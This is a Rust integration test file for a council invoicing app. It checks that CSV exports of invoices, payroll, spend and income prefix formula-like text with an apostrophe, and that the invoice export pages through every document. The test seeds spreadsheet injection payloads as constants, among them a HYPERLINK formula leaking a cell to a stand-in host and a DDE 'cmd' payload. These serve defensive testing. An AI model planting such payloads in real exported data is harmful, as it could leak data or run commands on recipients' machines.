//! Every CSV export neutralises text that a spreadsheet would run as a formula: what one
//! council typed (a purchase order, a payment reference, a name, a booking's purpose)
//! reaches the other council's spreadsheet as text, while amounts stay numbers.

use crate::cast::{cast, contract_with_vat, decide, post_week, Cast};
use crate::harness::TestApp;
use crate::on_both;
use domain::bookings::Settlement;
use domain::clock::Clock;
use domain::contracts::VatTreatment;
use reqwest::StatusCode;
use store::invoices;
use store::testing::execute_raw;

const LINK: &str = r#"=HYPERLINK("http://x.example/?leak="&A1,"Click")"#;
const NAME: &str = "@SUM(A1:A9)";
const PURPOSE: &str = "+cmd|' /C calc'!A0";
const REFERENCE: &str = "-2+3";
const SERVICE: &str = "=1+1";

/// The fields of one CSV line (the exports quote only what needs it).
fn fields(line: &str) -> Vec<String> {
    let mut reader = csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(line.as_bytes());
    reader
        .records()
        .next()
        .and_then(Result::ok)
        .map(|r| r.iter().map(str::to_string).collect())
        .unwrap_or_default()
}

/// The rows of a CSV download, header first.
async fn download(app: &TestApp, client: &reqwest::Client, path: &str) -> Vec<Vec<String>> {
    let r = app.get_as(client, path).await;
    assert_eq!(r.status(), StatusCode::OK, "{path}");
    assert_eq!(r.headers()["content-type"], "text/csv; charset=utf-8", "{path}");
    r.text().await.unwrap().lines().map(fields).collect()
}

fn column(rows: &[Vec<String>], name: &str) -> Vec<String> {
    let at = rows[0]
        .iter()
        .position(|h| h == name)
        .unwrap_or_else(|| panic!("no {name} in {:?}", rows[0]));
    rows[1..].iter().map(|r| r[at].clone()).collect()
}

/// A money contract whose purpose, purchase order, service and practitioner's name are
/// what someone typed, with a week of approved time; the month's invoice issued, credited,
/// drafted again, issued and paid with a typed reference.
async fn typed_text_everywhere(app: &TestApp, c: &Cast) -> String {
    let k = contract_with_vat(app, c, Settlement::Money, 4, 10, VatTreatment::Standard).await;
    let quote = |s: &str| s.replace('\'', "''");
    for sql in [
        format!(
            "UPDATE contracts SET purpose = '{}', lgsl_id = (SELECT MIN(id) FROM lgsl_services) WHERE id = {k}",
            quote(PURPOSE)
        ),
        format!(
            "UPDATE lgsl_services SET label = '{}' WHERE id = (SELECT MIN(id) FROM lgsl_services)",
            quote(SERVICE)
        ),
        format!(
            "UPDATE contract_versions SET po_number = '{}' WHERE contract_id = {k}",
            quote(LINK)
        ),
        format!(
            "UPDATE users SET display_name = '{}' WHERE email = 'mei@leeds.gov.uk'",
            quote(NAME)
        ),
    ] {
        execute_raw(app.db(), &sql).await.unwrap();
    }
    assert_eq!(
        post_week(app, &c.mei, k, &["7.5"], "submit").await.status(),
        StatusCode::SEE_OTHER
    );
    assert_eq!(
        decide(app, &c.dan, k, "approve", "").await.status(),
        StatusCode::SEE_OTHER
    );
    let month = domain::weeks::Week::current(app.clock.now())
        .monday()
        .format("%Y-%m")
        .to_string();
    let issue_draft = || async {
        app.post_form_as(&c.tom, "/councils/LDS/invoices/generate", &[("month", &month)])
            .await;
        let draft = invoices::list(app.db(), c.leeds, true)
            .await
            .unwrap()
            .into_iter()
            .find(|i| i.status == domain::invoices::InvoiceStatus::Draft)
            .expect("a draft")
            .id;
        let r = app.post_form_as(&c.tom, &format!("/invoices/{draft}/issue"), &[]).await;
        assert_eq!(r.status(), StatusCode::SEE_OTHER);
        draft
    };
    let first = issue_draft().await;
    let r = app
        .post_form_as(&c.tom, &format!("/invoices/{first}/credit"), &[])
        .await;
    assert_eq!(r.status(), StatusCode::SEE_OTHER);
    let second = issue_draft().await;
    let today = domain::weeks::london_date(app.clock.now()).to_string();
    let r = app
        .post_form_as(
            &c.fay,
            &format!("/invoices/{second}/pay"),
            &[("paid_on", &today), ("reference", REFERENCE)],
        )
        .await;
    assert_eq!(r.status(), StatusCode::SEE_OTHER);
    month
}

async fn every_export_neutralises_formulas(app: TestApp) {
    let c = cast(&app).await;
    let month = typed_text_everywhere(&app, &c).await;
    let today = domain::weeks::london_date(app.clock.now()).to_string();

    // Invoices, as the buying council downloads them.
    let rows = download(&app, &c.fay, "/councils/WOK/invoices.csv").await;
    assert_eq!(rows.len(), 4, "invoice, credit note, invoice: {rows:?}");
    assert!(
        column(&rows, "purchase_order")
            .iter()
            .all(|po| *po == format!("'{LINK}")),
        "{rows:?}"
    );
    assert!(
        column(&rows, "practitioner").iter().all(|n| *n == format!("'{NAME}")),
        "{rows:?}"
    );
    assert_eq!(column(&rows, "payment_reference")[2], format!("'{REFERENCE}"));
    // The credit note's amounts are negative numbers, not text.
    assert_eq!(column(&rows, "total"), ["450.00", "-450.00", "450.00"]);
    assert_eq!(column(&rows, "line_amount")[1], "-375.00");

    // Payroll, as the lending council downloads it.
    let rows = download(&app, &c.tom, &format!("/councils/LDS/payroll.csv?month={month}")).await;
    assert_eq!(column(&rows, "practitioner"), [format!("'{NAME}")]);
    assert_eq!(column(&rows, "hours"), ["7.5"]);

    // Spend, as the buying council publishes it.
    let rows = download(
        &app,
        &c.fay,
        &format!("/councils/WOK/spend.csv?from={today}&to={today}"),
    )
    .await;
    assert_eq!(rows.len(), 4, "{rows:?}");
    assert!(
        column(&rows, "Purpose").iter().all(|p| *p == format!("'{PURPOSE}")),
        "{rows:?}"
    );
    assert!(
        column(&rows, "Service area")
            .iter()
            .all(|s| *s == format!("'{SERVICE}")),
        "{rows:?}"
    );
    assert_eq!(column(&rows, "Net amount"), ["375.00", "-375.00", "375.00"]);

    // Income, by service.
    let rows = download(&app, &c.tom, "/councils/LDS/income.csv").await;
    assert_eq!(column(&rows, "service"), [format!("'{SERVICE}")]);
    assert_eq!(column(&rows, "value"), ["375.00"]);
}

/// The invoices export reads a page of documents at a time: every document arrives once,
/// in order, however many pages they take, for the council on either side.
async fn the_invoice_export_pages_through_every_document(app: TestApp) {
    let c = cast(&app).await;
    typed_text_everywhere(&app, &c).await;
    let paid = invoices::list(app.db(), c.leeds, true)
        .await
        .unwrap()
        .into_iter()
        .find(|i| i.status == domain::invoices::InvoiceStatus::Paid)
        .unwrap()
        .id;
    const COPIES: i64 = 450;
    let columns = "kind, supplier_org_id, buyer_org_id, contract_id, status, period_start, period_end, po_number,
        vat_treatment, vat_rate_bp, net_pence, vat_pence, total_pence, payment_terms_days, due_date, created_at,
        issued_at, issued_on, paid_on, paid_reference";
    for n in 1..=COPIES {
        execute_raw(
            app.db(),
            &format!(
                "INSERT INTO invoices (number, {columns}) SELECT {}, {columns} FROM invoices WHERE id = {paid}",
                1000 + n
            ),
        )
        .await
        .unwrap();
        execute_raw(
            app.db(),
            &format!(
                "INSERT INTO invoice_lines (invoice_id, position, practitioner_id, practitioner_name, first_date,
                     last_date, minutes, rate_pence, amount_pence)
                 SELECT (SELECT MAX(id) FROM invoices), position, practitioner_id, practitioner_name, first_date,
                     last_date, minutes, rate_pence, amount_pence
                 FROM invoice_lines WHERE invoice_id = {paid}"
            ),
        )
        .await
        .unwrap();
    }
    for (client, path) in [
        (&c.fay, "/councils/WOK/invoices.csv"),
        (&c.tom, "/councils/LDS/invoices.csv"),
    ] {
        let rows = download(&app, client, path).await;
        let numbers = column(&rows, "number");
        assert_eq!(numbers.len() as i64, 3 + COPIES, "{path}");
        let mut unique = numbers.clone();
        unique.dedup();
        assert_eq!(unique.len(), numbers.len(), "each document once, in order: {path}");
        assert_eq!(numbers.last().map(String::as_str), Some("LDS-001450"), "{path}");
    }
    // The spend export pages through the same documents by date.
    let today = domain::weeks::london_date(app.clock.now()).to_string();
    let rows = download(
        &app,
        &c.fay,
        &format!("/councils/WOK/spend.csv?from={today}&to={today}"),
    )
    .await;
    let numbers = column(&rows, "Transaction number");
    assert_eq!(numbers.len() as i64, 3 + COPIES);
    let mut unique = numbers.clone();
    unique.sort();
    unique.dedup();
    assert_eq!(unique.len(), numbers.len(), "each document once");
}

on_both!(
    every_export_neutralises_formulas,
    the_invoice_export_pages_through_every_document
);
